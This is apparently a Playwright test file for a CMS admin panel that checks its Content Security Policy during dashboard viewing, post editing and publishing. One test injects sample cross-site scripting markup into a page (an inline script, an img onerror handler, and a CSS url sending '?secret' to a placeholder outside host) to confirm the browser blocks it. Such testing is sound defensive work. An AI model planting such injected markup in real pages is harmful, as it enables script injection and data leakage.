import type { APIRequestContext, Page } from '@playwright/test'
import { sharedProduct, tokenOf } from './support/api.ts'
import { openDashboard, signInBeforehand } from './support/measured-product.ts'
import { enterPanel, formListens, publishPost } from './support/panel.ts'
import { keptByItself, newEditor } from './support/staff.ts'
import { expect, main, test } from './support/test.ts'

test('the dashboard shows everything within the content policy of the panel', async ({ page }) => {
  const violations = await violationsOn(page)
  const answer = page.waitForResponse((each) => each.request().isNavigationRequest() && each.ok())
  await openDashboard(page, sharedProduct())
  expect(scriptSources(await (await answer).headerValue('content-security-policy'))).toMatch(
    /^'self' 'nonce-[\w+/]{22}==' 'strict-dynamic'$/,
  )
  await expect(page.getByRole('tab').first()).toBeVisible()
  expect(await violations()).toEqual([])
})

test('the panel works within its content policy, and code in a post is changed where it stands', async ({
  page,
  request,
  baseURL,
}) => {
  test.slow()
  const violations = await violationsOn(page)
  const { id: post, slug } = await postWithCode(request)
  await enterPanel(page, await newEditor(request, baseURL))

  await test.step('its screens open', async () => {
    await page.goto('/admin')
    await expect(page.locator('a[href="/admin/collections/posts"]').first()).toBeAttached()
    await page.goto('/admin/collections/posts')
    await expect(page.locator(`a[href*="/admin/collections/posts/${post}"]`).first()).toBeVisible()
    // By its address: the panel's list draws its rows anew while it wakes, and a click on an old one leads nowhere.
    await page.goto(`/admin/collections/posts/${post}`)
    await formListens(page)
  })

  await test.step('code in a post is changed where it stands', async () => {
    const code = page.locator('.code-text textarea')
    // The panel's heaviest page, opened for the first time.
    await expect(code).toHaveValue('print("flag")', { timeout: 30_000 })
    await code.fill('print("another flag")')
    const editor = page.locator('[data-lexical-editor="true"]')
    await expect(editor).toBeVisible()
    await editor.locator('p').last().click()
    const kept = keptByItself(page, 'More words')
    await page.keyboard.type('More words')
    await expect(editor).toContainText('More words')
    await kept
    await publishPost(page)
    await expect.poll(() => codeOf(request, slug)).toBe('print("another flag")')
  })

  await test.step('its menus and dialogs open', async () => {
    await page.locator('.doc-controls__popup button, .doc-controls__dots').first().click()
    await page.keyboard.press('Escape')
    await page.locator('#field-cover').getByRole('button').last().click()
    await expect(page.getByRole('dialog')).toBeVisible()
  })
  expect(await violations()).toEqual([])
})

test.describe(() => {
  test.use({ expectedErrors: [/Content Security Policy|status of 404/] })

  test(
    'a script that somebody smuggled into a page of the panel does not run, and no style of theirs asks for a picture',
    main,
    async ({ page }) => {
      const violations = await violationsOn(page)
      await signInBeforehand(page, sharedProduct())
      await page.route('**/admin/account', async (route) => {
        const answer = await route.fetch()
        const scripts = `<script>window.smuggled = 1</script><img src="/x" onerror="window.smuggled = 2">`
        const style = `<p style="background: url(https://elsewhere.example/?secret)">Words</p>`
        const body = (await answer.text()).replace('</body>', `${scripts}${style}</body>`)
        await route.fulfill({ response: answer, body })
      })
      await page.goto('/admin/account')
      await expect.poll(violations).toHaveLength(3)
      expect((await violations()).filter((each) => each.startsWith('img-src https://elsewhere.example'))).toHaveLength(
        1,
      )
      expect(await page.evaluate('window.smuggled')).toBeUndefined()
    },
  )
})

async function postWithCode(request: APIRequestContext): Promise<{ id: string; slug: string }> {
  const slug = `policy-${crypto.randomUUID().slice(0, 8)}`
  const answer = await request.post('/api/posts', {
    headers: { authorization: `Bearer ${await tokenOf(request)}` },
    data: {
      title: slug,
      slug,
      status: 'published',
      content: '<pre><code>print("flag")</code></pre><p>Words</p>',
    },
  })
  expect(answer.status()).toBe(201)
  return { id: ((await answer.json()) as { id: string }).id, slug }
}

/** The code in a post, as its readers have it. */
async function codeOf(request: APIRequestContext, slug: string): Promise<string> {
  const html = await (await request.get(`/blog/${slug}`)).text()
  const article = /<article[\s\S]*?<\/article>/.exec(html)?.[0] ?? ''
  const code = /<pre[^>]*>([\s\S]*?)<\/pre>/.exec(article)?.[1] ?? ''
  return code.replaceAll(/<[^>]*>/g, '').replaceAll(/&quot;|&#34;/g, '"')
}

/** What the browser refused since, on every page. */
async function violationsOn(page: Page): Promise<() => Promise<string[]>> {
  const found: string[] = []
  await page.exposeFunction('noteViolation', (violation: string) => found.push(violation))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      const { noteViolation } = window as unknown as { noteViolation: (text: string) => void }
      noteViolation(`${effectiveDirective} ${blockedURI} ${sample}`)
    })
  })
  return async () => found
}

function scriptSources(policy: string | null | undefined): string {
  return /script-src ([^;]*)/.exec(policy ?? '')?.[1] ?? ''
}
